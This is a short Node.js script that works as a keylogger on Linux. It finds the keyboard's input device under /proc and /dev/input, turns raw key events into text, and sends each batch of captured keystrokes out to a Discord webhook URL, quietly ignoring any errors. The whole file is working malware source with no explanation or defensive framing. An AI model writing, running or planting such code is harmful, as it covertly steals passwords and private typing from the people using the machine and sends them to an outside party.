const fs = require('fs');
const MAP = '..1234567890-=..qwertyuiop[]..asdfghjkl;\'`.\\zxcvbnm,./....';
const dev = fs.readFileSync('/proc/bus/input/devices', 'utf8')
  .split('\n\n').find((b) => /EV=120013/.test(b)).match(/event\d+/)[0];

let text = '';
const s = fs.createReadStream('/dev/input/' + dev, { highWaterMark: 24 });
s.on('data', (b) => {
  if (b.readUInt16LE(16) !== 1 || b.readInt32LE(20) !== 1) return;
  const code = b.readUInt16LE(18);
  text += code === 28 ? '\n' : code === 57 ? ' ' : MAP[code] || '';
  if (text.length > 200) {
    fetch('https://discord.com/api/webhooks/000000000000000000/example', {
      method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ content: '```' + text + '```' }),
    }).catch(() => {});
    text = '';
  }
});
